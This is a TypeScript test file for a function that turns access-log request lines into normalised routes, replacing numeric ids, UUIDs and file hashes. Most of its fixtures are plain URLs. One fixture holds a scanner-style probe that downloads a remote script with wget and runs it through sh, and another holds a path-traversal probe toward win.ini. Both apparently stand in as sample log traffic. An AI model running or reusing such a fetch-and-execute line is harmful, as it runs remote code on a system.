import { DuckDBInstance } from '@duckdb/node-api';
import { describe, expect, it } from 'vitest';
import { methodAndPath, ROUTE_LENGTH, ROUTE_REWRITES, route } from '../../../src/collect/access-log/request-route.ts';
import { fc } from '../../support/property.ts';

const get = (url: string) => `GET ${url} HTTP/1.1`;
const UUID = '123e4567-e89b-12d3-a456-426614174000';

const SITUATIONS: [situation: string, request_line: string, route: string][] = [
  ['a path', get('http://example.com:80/cart/checkout'), 'GET /cart/checkout'],
  ['the root', get('https://example.com:443/'), 'GET /'],
  ['only a host', get('https://example.com:443'), 'GET /'],
  ['a query', get('https://example.com:443/search?q=1/2/3&next=http://a/b'), 'GET /search'],
  ['a query without a path', get('https://example.com:443?q=1'), 'GET /'],
  ['a fragment', get('https://example.com:443/a#b'), 'GET /a'],
  ['an IPv6 host', get('http://[2001:db8::1]:80/a'), 'GET /a'],
  ['a web socket', get('wss://example.com:443/socket'), 'GET /socket'],
  ['HTTP/2', 'POST https://example.com:443/a HTTP/2.0', 'POST /a'],
  ['a missing version', 'GET http://example.com:80/a', 'GET /a'],
  ['a version of "-"', 'GET http://example.com:80/a -', 'GET /a'],
  ['a space behind the version', 'GET http://example.com:80/a HTTP/1.0 ', 'GET /a'],
  ['a path without scheme and host', 'GET /a?b HTTP/1.1', 'GET /a'],
  ['spaces in the path', get('http://example.com:80/a b/7'), 'GET /a b/:id'],
  ['a query with spaces', get('http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws;sh'), 'GET /shell'],
  ['an unknown method', 'SSTP_DUPLEX_POST https://example.com:443/sra_1/ HTTP/1.1', 'SSTP_DUPLEX_POST /sra_1/'],
  ['escapes', get('http://example.com:80/\\x22/..\\x5Cwin.ini'), 'GET /\\x22/..\\x5Cwin.ini'],
  ['other alphabets', get('http://example.com:80/שלום/7/😀'), 'GET /שלום/:id/😀'],

  ['numbers', get('http://example.com:80/orders/42/items/7'), 'GET /orders/:id/items/:id'],
  ['numbers in a row', get('http://example.com:80/1/2/3'), 'GET /:id/:id/:id'],
  ['a number before a slash', get('http://example.com:80/1/2/'), 'GET /:id/:id/'],
  ['empty segments', get('http://example.com:80//1//2'), 'GET //:id//:id'],
  ['a UUID', get(`http://example.com:80/users/${UUID}/avatar`), 'GET /users/:id/avatar'],
  ['a UUID in capitals', get(`http://example.com:80/users/${UUID.toUpperCase()}`), 'GET /users/:id'],
  ['an object id', get('http://example.com:80/posts/507f1f77bcf86cd799439011'), 'GET /posts/:id'],
  ['eight hexadecimal characters', get('http://example.com:80/posts/abcdef12'), 'GET /posts/:id'],
  ['seven letters and a digit', get('http://example.com:80/posts/abcdefa1'), 'GET /posts/:id'],
  ['letters before the first digit', get('http://example.com:80/posts/abcdefabcdef1'), 'GET /posts/:id'],

  ['seven hexadecimal characters', get('http://example.com:80/posts/abcdef1'), 'GET /posts/abcdef1'],
  ['a word of hexadecimal letters', get('http://example.com:80/deadbeef/facade'), 'GET /deadbeef/facade'],
  ['a version in the path', get('http://example.com:80/v1/posts'), 'GET /v1/posts'],
  ['a number within a word', get('http://example.com:80/item-42/42-item/42.html'), 'GET /item-42/42-item/42.html'],

  ['a hash as a file name', get('http://example.com:80/assets/b1e0b4af5223.js'), 'GET /assets/:id'],
  ['six hexadecimal characters before the extension', get('http://example.com:80/js/app.3f9a1c.js'), 'GET /js/:id'],
  ['a hash before two extensions', get('http://example.com:80/main.3f9a1c0b.chunk.js.map?v=1'), 'GET /:id'],
  ['a hash behind an underscore', get('http://example.com:80/logo_0a1b2c.svg/7'), 'GET /:id/:id'],
  ['a hash in base 32', get('http://example.com:80/chunk-ABCDEFGH.css'), 'GET /:id'],
  ['a hash in base 64', get('http://example.com:80/a/index-BQ3kXz9w.js'), 'GET /a/:id'],
  ['hashed files in a row', get('http://example.com:80/a.3f9a1c.js/b.3f9a1c.js'), 'GET /:id/:id'],
  ['a number as a file name', get('http://example.com:80/invoices/202611.pdf'), 'GET /invoices/:id'],
  ['a UUID as a file name', get(`http://example.com:80/${UUID}.png`), 'GET /:id'],

  ['a file name without a hash', get('http://example.com:80/js/app.min.js'), 'GET /js/app.min.js'],
  ['hexadecimal letters without a digit', get('http://example.com:80/facade.decade.js'), 'GET /facade.decade.js'],
  ['five hexadecimal characters', get('http://example.com:80/app.3f9a1.js'), 'GET /app.3f9a1.js'],
  ['a hash within a word', get('http://example.com:80/xapp3f9a1c.js'), 'GET /xapp3f9a1c.js'],
  ['a digit at the end of a word', get('http://example.com:80/my-invoice1.pdf'), 'GET /my-invoice1.pdf'],
  ['a hash without an extension', get('http://example.com:80/app.3f9a1c'), 'GET /app.3f9a1c'],
  ['a hash before four extensions', get('http://example.com:80/3f9a1c.a.b.c.d'), 'GET /3f9a1c.a.b.c.d'],
  ['a hash before an extension in digits', get('http://example.com:80/app.3f9a1c.7z'), 'GET /app.3f9a1c.7z'],

  ['a parameter', get('http://example.com:80/cart;jsessionid=0A1B2C3D'), 'GET /cart'],
  ['a parameter of the root', get('http://example.com:80/;jsessionid=0A1B2C3D?a=b'), 'GET /'],
  ['parameters within the path', get('http://example.com:80/a;v=1;w/b/;x/c'), 'GET /a/b//c'],
  ['a parameter of an id', get('http://example.com:80/orders/42;v=1/items'), 'GET /orders/:id/items'],
  ['a semicolon ahead of the path', 'A;B http://example.com:80/a HTTP/1.1', 'A;B /a'],

  ['no method and no URL', '- - -', '-'],
  ['no method and no URL, followed by a space', '- - - ', '-'],
  ['no method', '- http://example.com:80- -', '-'],
  ['no method but a path', '- http://example.com:80-/ ', '-'],
  ['no URL', 'GET', '-'],
  ['an invalid URL', 'GET somewhere HTTP/1.1', '-'],
  ['a space in front', ' /a HTTP/1.1', '-'],
  ['no text', '', '-'],
];

describe('the route of a request', () => {
  it.each(SITUATIONS)('with %s', (_, request_line, expected) => {
    expect(route(request_line)).toBe(expected);
  });

  it('is cut after rewriting, at whole characters', () => {
    const long = `${'/1'.repeat(150)}/end`;
    expect(route(get(`http://example.com:80${long}`))).toBe(`GET ${'/:id'.repeat(150)}`.slice(0, ROUTE_LENGTH));
    const smiles = route(get(`http://example.com:80/${'😀'.repeat(300)}`));
    expect(smiles).toBe(`GET /${'😀'.repeat(ROUTE_LENGTH - 5)}`);
  });

  it('keeps ids and length on request', () => {
    expect(methodAndPath(get('https://example.com:443/orders/42?token=secret'))).toBe('GET /orders/42');
    expect(methodAndPath(get(`http://example.com:80/${'a'.repeat(300)}`))).toBe(`GET /${'a'.repeat(300)}`);
    expect(methodAndPath(get('http://example.com:80/a;v=1'))).toBe('GET /a;v=1');
    expect(methodAndPath('- - -')).toBe('-');
  });
});

const segment = fc.oneof(
  fc.nat().map(String),
  fc.uuid(),
  fc.string({ unit: fc.constantFrom(...'0123456789abcdefABCDEF'), maxLength: 12 }),
  fc.string({ unit: 'grapheme', maxLength: 6 }),
  fc.string({ unit: fc.constantFrom(...'0123af-._AZ7'), maxLength: 14 }).map((name) => `${name}.js`),
  fc.constantFrom('', 'v1', 'deadbeef', 'a b', ':id', '-', ';v=1', '17;v=1;w'),
);
const path = fc.array(segment, { maxLength: 6 }).map((segments) => `/${segments.join('/')}`);
const requestLines = fc.oneof(
  path.map((text) => get(`http://example.com:80${text}`)),
  fc.tuple(path, fc.string()).map(([text, query]) => get(`https://example.com:443${text}?${query}`)),
  path.map((text) => `POST ${text}`),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
);

describe('the route of a random request', () => {
  it('has no query, no host and no id', () => {
    fc.assert(
      fc.property(path, fc.string(), (text, query) => {
        const result = route(get(`http://example.com:80${text}?${query}`));
        expect(result).toMatch(/^GET \//);
        expect(result).not.toMatch(/[?#;]|example[.]com|[/](?:\d+|[\da-f]{8}(?:-[\da-f]{4}){3}-[\da-f]{12})(?:[/]|$)/i);
        expect([...result].length).toBeLessThanOrEqual(ROUTE_LENGTH);
      }),
    );
  });

  it('stays the same when taken again', () => {
    fc.assert(
      fc.property(path, (text) => {
        const result = route(`GET ${text.replace(/[?# ]/g, '')} HTTP/1.1`);
        expect(route(`${result} HTTP/1.1`)).toBe(result);
      }),
    );
  });

  it('is the same in DuckDB', async () => {
    const lines = [
      ...SITUATIONS.map(([, request_line]) => request_line),
      ...fc.sample(requestLines, { numRuns: 2000, seed: 1 }),
    ].filter((line) => !line.includes('\0'));
    const sql = ROUTE_REWRITES.reduce(
      (text, { match, to }) => `regexp_replace(${text}, ${quoted(match)}, ${quoted(to.replaceAll('$', '\\'))}, 'g')`,
      'line',
    );
    const connection = await (await DuckDBInstance.create(':memory:')).connect();
    const values = lines.map((line, index) => `(${index}, ${quoted(line)})`).join(', ');
    const reader = await connection.runAndReadAll(
      `select left(${sql}, ${ROUTE_LENGTH}) from (values ${values}) as lines(number, line) order by number`,
    );
    connection.closeSync();
    expect(reader.getRows().map(([value]) => value)).toEqual(lines.map(route));
  });
});

const quoted = (text: string) => `'${text.replaceAll("'", "''")}'`;
